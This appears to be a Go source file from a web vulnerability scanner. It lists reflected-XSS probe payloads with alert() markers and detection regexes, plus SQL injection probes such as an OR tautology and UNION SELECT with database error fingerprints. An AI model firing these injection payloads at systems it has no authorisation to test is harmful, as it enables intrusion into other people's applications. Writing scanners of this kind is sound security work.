package inject

import "regexp"

// XSSPayload is a reflected-XSS probe. Marker is a unique token baked into
// the payload; Pattern confirms the payload was reflected unescaped.
type XSSPayload struct {
	Name    string
	Payload string
	Marker  string
	Pattern *regexp.Regexp
}

// xssPayloads are non-destructive reflection probes. Each marker is unique so
// a match can be attributed to exactly one payload.
var xssPayloads = []XSSPayload{
	{
		Name:    "script tag",
		Payload: `<script>alert('wsq1')</script>`,
		Marker:  "wsq1",
		Pattern: regexp.MustCompile(`(?i)<script>alert\('wsq1'\)</script>`),
	},
	{
		Name:    "img onerror handler",
		Payload: `"><img src=x onerror=alert('wsq2')>`,
		Marker:  "wsq2",
		Pattern: regexp.MustCompile(`(?i)<img src=x onerror=alert\('wsq2'\)>`),
	},
	{
		Name:    "svg onload handler",
		Payload: `'><svg onload=alert('wsq3')>`,
		Marker:  "wsq3",
		Pattern: regexp.MustCompile(`(?i)<svg onload=alert\('wsq3'\)>`),
	},
	{
		Name:    "attribute breakout",
		Payload: `" autofocus onfocus=alert('wsq4') x="`,
		Marker:  "wsq4",
		Pattern: regexp.MustCompile(`(?i)onfocus=alert\('wsq4'\)`),
	},
	{
		Name:    "javascript URI",
		Payload: `javascript:alert('wsq5')`,
		Marker:  "wsq5",
		Pattern: regexp.MustCompile(`(?i)javascript:alert\('wsq5'\)`),
	},
}

// SQLErrorSignature is a database error fingerprint.
type SQLErrorSignature struct {
	Database string
	Pattern  *regexp.Regexp
}

// sqlErrorSignatures are checked in order; the first match wins.
var sqlErrorSignatures = []SQLErrorSignature{
	{"MySQL", regexp.MustCompile(`(?i)you have an error in your sql syntax|warning:\s*mysqli?_|mysql_fetch|check the manual that corresponds to your (mysql|mariadb) server version`)},
	{"PostgreSQL", regexp.MustCompile(`(?i)pg_query\(\)|pg_exec\(\)|postgresql.*error|syntax error at or near`)},
	{"Oracle", regexp.MustCompile(`(?i)ora-\d{5}|oracle.*driver|quoted string not properly terminated`)},
	{"SQLite", regexp.MustCompile(`(?i)sqlite3?::|sqlite_error|unrecognized token:|no such column:`)},
	{"PDO/ODBC", regexp.MustCompile(`(?i)pdoexception|sqlstate\[\w+\]|unclosed quotation mark|odbc .*driver`)},
}

// SQLiPayload is an error-based SQL injection probe. Signatures lists the
// fingerprints checked against the response, in order.
type SQLiPayload struct {
	Name       string
	Payload    string
	Signatures []SQLErrorSignature
}

var sqliPayloads = []SQLiPayload{
	{Name: "single quote", Payload: `'`, Signatures: sqlErrorSignatures},
	{Name: "double quote", Payload: `"`, Signatures: sqlErrorSignatures},
	{Name: "OR tautology", Payload: `' OR '1'='1`, Signatures: sqlErrorSignatures},
	{Name: "UNION SELECT", Payload: `' UNION SELECT NULL--`, Signatures: sqlErrorSignatures},
	{Name: "comment injection", Payload: `'--`, Signatures: sqlErrorSignatures},
}

// XSSPayloads returns the reflected-XSS probe catalog.
func XSSPayloads() []XSSPayload {
	return xssPayloads
}

// SQLiPayloads returns the SQL injection probe catalog.
func SQLiPayloads() []SQLiPayload {
	return sqliPayloads
}
